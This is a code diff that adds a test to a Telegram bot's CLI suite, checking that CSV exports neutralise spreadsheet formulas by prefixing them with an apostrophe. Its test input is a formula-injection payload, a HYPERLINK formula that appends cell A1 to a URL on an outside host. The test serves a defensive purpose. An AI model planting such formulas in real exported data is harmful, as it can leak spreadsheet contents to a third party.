@@ -62,6 +62,25 @@ class TestCli:
         assert (row["user_id"], row["status"], row["prompt"]) == ("1", "ok", "a cat")
         assert run_cli(["export", "--since", "2999-01-01"], env, tmp_path).startswith("id,")
 
+    async def test_csv_is_safe_to_open_in_a_spreadsheet(
+        self, start_bot: StartBot, telegram: FakeTelegram, tmp_path: Path
+    ) -> None:
+        """A prompt that is a formula comes out as text (SPEC section 5)."""
+        db = tmp_path / "cli.sqlite3"
+        formula = '=HYPERLINK("http://example.com/?"&A1,"click")'
+        ann = telegram.user(1, username="@ann")
+        async with start_bot(database_path=db):
+            telegram.send_text(ann, telegram.private_chat(ann), formula)
+            await telegram.wait_for("sendPhoto")
+        env = {"PATH": os.environ["PATH"], "DATABASE_PATH": str(db)}
+        [row] = csv.DictReader(
+            io.StringIO(run_cli(["export", "--since", "2000-01-01"], env, tmp_path))
+        )
+        assert row["prompt"] == "'" + formula
+        assert row["username"] == "'@ann"
+        assert row["user_id"] == "1"
+        assert run_cli(["payments"], env, tmp_path).startswith("charge_id,")
+
 
 class TestSecretsInLogs:
     """Neither the bot token nor the API key ever reaches a log line."""
